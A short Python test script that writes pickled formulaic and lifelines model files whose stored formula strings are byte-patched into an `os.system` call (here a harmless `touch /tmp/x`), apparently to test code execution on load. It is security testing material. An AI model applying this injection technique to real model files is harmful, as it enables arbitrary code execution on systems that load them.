"""Write models whose own state holds text that their library evaluates: `PYTHONPATH=tests python unseen4_write_states.py OUT`."""
# mypy: ignore-errors

# ruff: noqa: E501 (payloads are kept whole)
from __future__ import annotations

import pickle
import sys
from pathlib import Path

import pandas as pd

OUT = Path(sys.argv[1])
EXPRESSION = "__import__('os').system('touch /tmp/x')"


def to(name, data=None):
    path = OUT / "state" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    if data is not None:
        path.write_bytes(data)
    return path


def formulas():
    import formulaic

    formula = formulaic.Formula("{x}")
    raw = pickle.dumps(formula, 2)
    to("formulaic-formula/formula.pkl", _longer(raw, "x"))


def _longer(raw, name):
    old = b"X" + len(name).to_bytes(4, "little") + name.encode()
    new = EXPRESSION.encode()
    if old not in raw:
        raise ValueError(name)
    return raw.replace(old, b"X" + len(new).to_bytes(4, "little") + new)


def lifelines():
    from lifelines import CoxPHFitter

    frame = pd.DataFrame({"T": [5, 3, 9, 8, 7, 4.0], "E": [1, 1, 1, 0, 1, 1], "a": [0.1, 0.4, 0.2, 0.9, 0.6, 0.5]})
    model = CoxPHFitter(penalizer=0.5).fit(frame, "T", "E", formula="np.log(a + 1)")
    data = pickle.dumps(model, 2)
    old, new = b"np.log(a + 1)", EXPRESSION.encode()
    at = data.replace(b"X" + len(old).to_bytes(4, "little") + old, b"X" + len(new).to_bytes(4, "little") + new)
    to("lifelines-formula/cox.pkl", at)


if __name__ == "__main__":
    for one in (formulas, lifelines):
        try:
            one()
        except Exception as error:  # left out where this release does it in another way
            print(one.__name__, type(error).__name__, str(error)[:200])
